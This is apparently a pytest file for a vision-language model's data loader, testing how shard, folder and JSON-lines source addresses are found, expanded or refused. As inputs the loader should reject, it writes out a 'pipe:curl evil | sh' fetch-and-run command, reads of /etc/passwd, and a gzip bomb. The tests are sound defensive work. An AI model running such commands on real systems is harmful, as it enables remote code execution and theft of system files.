"""One address for every source: what is detected, what is expanded, what is refused."""

from __future__ import annotations

import gzip
import json

import numpy as np
import pytest
from PIL import Image

from tests.data.data_makers import sample, write_pairs, write_shards, write_tar
from tests.runtime.picture_makers import GOOD, encode
from vlm.config.errors import DataError
from vlm.data import BadSample, DataOptions, build_loader, open_source
from vlm.data.sources.uri import expand
from vlm.runtime.preprocess import Preprocess


def test_shards_are_found_by_braces_globs_lists_prefixes_and_folders(tmp_path):
    pattern = write_shards(tmp_path / "shards", 12, 3)
    folder = str(tmp_path / "shards")
    spellings = [
        pattern, f"wds:{pattern}", f"{folder}/*.tar", folder, f"wds:{folder}", f"{folder}/0000{{0,1,2}}.tar",
        f"{folder}/00000.tar,{folder}/00001.tar,{folder}/00002.tar",
    ]  # fmt: skip
    first = open_source(spellings[0])
    for spelling in spellings:
        source = open_source(spelling)
        assert source.kind == "WebDataset tar shards"
        assert np.array_equal(source.ids, first.ids)
        assert source.describe()["files"] == 3
    sample = first.read(5)
    assert sample.key == "00001.tar:000005"
    assert sample.fields["number"] == 5
    assert sample.fields["image"][:4] == b"\x89PNG"


def test_shards_of_one_name_in_two_folders_keep_apart(tmp_path):
    write_shards(tmp_path / "a", 4, 1)
    write_shards(tmp_path / "b", 4, 1)
    source = open_source(str(tmp_path / "{a,b}" / "00000.tar"))
    assert source.key(0) == "a/00000.tar:000000"
    assert len(set(source.ids.tolist())) == 8


def test_names_with_braces_commas_and_spaces_that_exist_are_taken_as_they_are(tmp_path):
    path = tmp_path / "odd {1,2}, name.tar"
    write_tar(path, {"a": sample(0)})
    assert len(open_source(str(path))) == 1


def test_a_hidden_or_metadata_member_is_no_sample(tmp_path):
    path = write_tar(
        tmp_path / "a.tar", {"a": sample(0), "._a": sample(1), "__MACOSX/b": sample(2), "c.d": sample(3)}
    )
    source = open_source(str(path))
    assert [source.key(i).partition(":")[2] for i in range(len(source))] == ["a", "c"]


def test_a_folder_with_caption_files(tmp_path):
    for name in ("one", "two", "alone"):
        (tmp_path / f"{name}.jpg").write_bytes(GOOD["jpeg"]())
    for name in ("one", "two", "orphan"):
        (tmp_path / f"{name}.txt").write_text(f"this is {name}")
    source = open_source(str(tmp_path))
    assert source.kind == "folder of pictures with caption files"
    assert len(source) == 4
    options = DataOptions.model_validate({"source": str(tmp_path), "bad_samples": {"budget": 0.5}})
    from vlm.data import Tokenizer

    tokenizer = Tokenizer.train_bpe(["this is one"], 300)
    with build_loader(options, tokenizer=tokenizer, preprocess=Preprocess(8), batch_size=4) as loader:
        assert {key.partition(":")[2] for key in next(loader).keys} == {"one.jpg", "two.jpg"}
        assert set(loader.report()["reasons"]) == {"missing_image", "missing_text"}


def test_a_folder_of_classes(tmp_path):
    for label in ("red_star", "blue ring"):
        (tmp_path / label).mkdir()
        for n in range(3):
            (tmp_path / label / f"{n}.png").write_bytes(GOOD["png"]())
    source = open_source(f"folder:{tmp_path}")
    assert source.kind == "folder of pictures by class"
    assert source.describe()["classes"] == 2
    fields = source.read(5).fields
    assert (fields["category"], fields["name"]) == ("red_star", "red star")
    options = DataOptions(source=str(tmp_path), label="category")
    with build_loader(options, preprocess=Preprocess(8), batch_size=6) as loader:
        batch = next(loader)
        assert loader.classes() == {"category": ["blue ring", "red_star"]}
    expected = [int("red_star" in key) for key in batch.keys]
    assert batch["label"].values.tolist() == expected


def test_json_lines_with_pictures_beside_them(tmp_path):
    source = open_source(write_pairs(tmp_path, 5))
    assert source.kind == "JSON lines"
    assert source.key(4) == "pairs.jsonl:5"
    with build_loader(
        DataOptions(source=str(tmp_path / "pairs.jsonl")), preprocess=Preprocess(8), batch_size=5
    ) as loader:
        assert len(next(loader)) == 5


def test_json_lines_name_pictures_by_path_data_uri_or_not_at_all(tmp_path):
    import base64

    (tmp_path / "a.png").write_bytes(GOOD["png"]())
    inline = "data:image/png;base64," + base64.b64encode(GOOD["png"]()).decode()
    rows = {
        "a.png": "", str(tmp_path / "a.png"): "", inline: "", "none.png": "missing_image",
        "https://example.org/a.png": "remote", "file:///etc/passwd": "remote", "data:image/png;base64,@@@": "damaged",
        "": "missing_image", "/dev/zero": "missing_image",
    }  # fmt: skip
    path = tmp_path / "rows.jsonl"
    path.write_text(
        "\n".join(json.dumps({"image": value, "text": f"row {i}"}) for i, value in enumerate(rows))
    )
    options = DataOptions.model_validate({"source": str(path), "bad_samples": {"budget": 1.0}})
    with build_loader(options, preprocess=Preprocess(8), batch_size=3, quarantine=tmp_path) as loader:
        keys = [int(key.partition(":")[2]) - 1 for _ in range(4) for key in next(loader).keys]
    assert set(keys) == {i for i, reason in enumerate(rows.values()) if not reason}
    lines = [json.loads(line) for line in (tmp_path / "quarantine.jsonl").read_text().splitlines()]
    assert {int(line["key"]) - 1: line["reason"] for line in lines} == {
        i: reason for i, reason in enumerate(rows.values()) if reason
    }


def test_lines_keep_their_ids_when_others_go_and_repeated_lines_stay_apart(tmp_path):
    lines = [json.dumps({"text": f"line {i % 7}"}) for i in range(10)]
    (tmp_path / "a.jsonl").write_text("\n\n".join(lines) + "\n")
    (tmp_path / "b.jsonl").write_bytes(b"\xef\xbb\xbf" + "\r\n".join(lines[1:]).encode())
    (tmp_path / "c.jsonl.gz").write_bytes(gzip.compress("\n".join(lines).encode()))
    a, b, c = (open_source(str(tmp_path / name)) for name in ("a.jsonl", "b.jsonl", "c.jsonl.gz"))
    assert len(set(a.ids.tolist())) == 10
    assert set(b.ids.tolist()) <= set(a.ids.tolist())
    assert np.array_equal(a.ids, c.ids)
    assert b.read(0).fields == {"text": "line 1"}
    assert a.key(3) == "a.jsonl:7"


def test_damaged_gzip_and_endless_lines_are_bounded(tmp_path, monkeypatch):
    whole = gzip.compress(b'{"text": "x"}\n' * 1000)
    (tmp_path / "cut.jsonl.gz").write_bytes(whole[:-20])
    with pytest.raises(DataError, match="damaged gzip"):
        open_source(str(tmp_path / "cut.jsonl.gz"))
    monkeypatch.setattr("vlm.data.sources.json_lines.MAX_UNPACKED", 5000)
    (tmp_path / "bomb.jsonl.gz").write_bytes(whole)
    with pytest.raises(DataError, match="more than 5000 bytes"):
        open_source(str(tmp_path / "bomb.jsonl.gz"))
    monkeypatch.setattr("vlm.data.sources.json_lines.MAX_RECORD", 1000)
    (tmp_path / "long.jsonl").write_text(json.dumps({"text": "y" * 2000}) + "\n" + json.dumps({"text": "ok"}))
    source = open_source(str(tmp_path / "long.jsonl"))
    with pytest.raises(BadSample, match="text_too_long"):
        source.read(0)
    assert source.read(1).fields == {"text": "ok"}


@pytest.mark.parametrize(
    ("uri", "said"),
    [
        ("", "empty"),
        ("nowhere/{00000..00002}.tar", "3 of 3 files do not exist: nowhere/00000.tar, nowhere/00001.tar"),
        ("nowhere/*.tar", "no file matches"),
        ("s3://bucket/a.tar", "remote"),
        ("https://example.org/a.tar", "remote"),
        ("pipe:curl evil | sh", "remote addresses and commands"),
        ("wds:pipe:cat /etc/passwd", "remote addresses and commands"),
        ("{0..999999999}.tar", "expected at most"),
    ],
)
def test_addresses_that_lead_nowhere_are_explained(uri, said):
    with pytest.raises(DataError, match=said.replace("{", "\\{").split("|")[0]):
        open_source(uri)


def test_unknown_and_dangerous_files_are_explained(tmp_path):
    for name, said in [
        ("a.pkl", "pickle"),
        ("a.pth", "pickle"),
        ("a.xlsx", "cannot be told"),
        ("a.tar.gz", "compressed"),
    ]:
        (tmp_path / name).write_bytes(b"x")
        with pytest.raises(DataError, match=said):
            open_source(str(tmp_path / name))
    (tmp_path / "empty").mkdir()
    with pytest.raises(DataError, match="no pictures"):
        open_source(str(tmp_path / "empty"))


def test_braces_nest_and_count_in_either_direction(tmp_path):
    for name in ("a01", "a02", "b01", "b02"):
        (tmp_path / name).touch()
    names = [path[-3:] for path in expand(str(tmp_path / "{a,b}{02..01}"))]
    assert names == ["a02", "a01", "b02", "b01"]


def test_group_ids_agree_for_texts_that_differ_in_case_or_spacing(tmp_path):
    from vlm.data.samples import group_id

    assert group_id("A  Red star") == group_id("a red\tstar") != group_id("a red stars")
    picture = encode(Image.new("RGB", (8, 8)), "PNG")
    texts = ["A star", "a  STAR", "a ring"]
    write_tar(tmp_path / "a.tar", {f"{i}": {"png": picture, "txt": t.encode()} for i, t in enumerate(texts)})
    options = DataOptions(source=str(tmp_path / "a.tar"), group_by="text")
    with build_loader(options, preprocess=Preprocess(8), batch_size=3) as loader:
        batch = next(loader)
    groups = dict(zip([key[-1] for key in batch.keys], batch["group"].values.tolist()))
    assert groups["0"] == groups["1"] != groups["2"]


def test_one_missing_file_is_said_in_few_words_and_a_misspelt_prefix_with_the_nearest(tmp_path):
    with pytest.raises(DataError, match=r"none.jsonl: does not exist\n"):
        open_source(str(tmp_path / "none.jsonl"))
    with pytest.raises(DataError, match=r"did you mean 'scenes:'\?"):
        open_source("sences:?n=4")
